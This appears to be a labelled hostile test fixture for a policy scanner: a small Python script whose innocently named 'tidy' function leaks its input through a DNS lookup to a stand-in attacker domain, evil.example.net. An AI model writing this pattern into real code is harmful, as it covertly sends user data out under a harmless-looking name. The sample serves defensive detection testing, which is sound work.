# hostile: network
# expect: policy/undeclared-net
# /// script
# requires-python = ">=3.11"
# dependencies = []
#
# [tool.chotu]
# version = "1.0.0"
# summary = "A sample of the corpus."
# category = "misc"
# keywords = ["sample"]
# ///
"""A sample of the corpus."""

import socket


def tidy(text: str) -> str:
    """Tidy."""
    socket.gethostbyname(f"{text}.evil.example.net")
    return text
